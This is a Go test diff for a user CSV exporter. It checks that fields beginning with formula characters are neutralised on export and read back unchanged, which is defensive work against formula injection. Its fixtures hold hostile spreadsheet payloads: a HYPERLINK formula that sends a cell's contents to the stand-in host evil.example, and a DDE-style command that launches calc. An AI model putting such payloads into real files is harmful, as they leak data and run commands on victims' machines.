@@ -2,6 +2,7 @@ package usercsv
 
 import (
 	"bytes"
+	"encoding/csv"
 	"os"
 	"strings"
 	"testing"
@@ -150,6 +151,53 @@ func TestWriteRoundTrip(t *testing.T) {
 		// Emoji are outside Shift_JIS; the export replaces them.
 		if enc == SJIS && strings.Contains(rows[1].Input.Name, "😀") {
 			t.Errorf("sjis kept an unencodable character")
+		}
+	}
+}
+
+// TestWriteNeutralisesFormulas exports users whose fields start with the
+// characters spreadsheets read as formulas: every such cell is written
+// neutralised ('=…), and the file imports back to the same values. (Tab and
+// CR cannot start a user's field: Normalize trims them and Validate refuses
+// control characters; csvcell's own tests cover them.)
+func TestWriteNeutralisesFormulas(t *testing.T) {
+	users := []model.User{
+		{Code: "-u1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Email: "=a@example.com", Phone: "+81 90 1234 5678", Group: "@group"},
+		{Code: "@u2", Name: "+1+1", Email: "+tag@example.com", Phone: "-0901234", Group: "-2+3"},
+		{Code: "u3", Name: "@SUM(1+1)*cmd|' /C calc'!A0", Email: "-x@example.com", Group: "=1+1"},
+		{Code: "u4", Name: "'=already quoted", Group: "'plain apostrophe"},
+	}
+	for _, enc := range []Encoding{UTF8, SJIS} {
+		data, err := Write(users, enc, word)
+		if err != nil {
+			t.Fatal(err)
+		}
+		text, _ := Decode(data)
+		recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for i, rec := range recs {
+			for j, cell := range rec {
+				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
+					t.Errorf("%s: line %d cell %d = %q starts a formula", enc, i+1, j+1, cell)
+				}
+			}
+		}
+		rows, errs, fatal := Read(data)
+		if fatal != nil || len(errs) > 0 {
+			t.Fatalf("%s: read back: %v %+v", enc, fatal, errs)
+		}
+		var got []model.UserInput
+		for _, r := range rows {
+			got = append(got, r.Input)
+		}
+		var want []model.UserInput
+		for _, u := range users {
+			want = append(want, model.UserInput{Code: u.Code, Name: u.Name, Email: u.Email, Phone: u.Phone, Group: u.Group})
+		}
+		if diff := cmp.Diff(want, got); diff != "" {
+			t.Errorf("%s: round trip (-want +got):\n%s", enc, diff)
 		}
 	}
 }
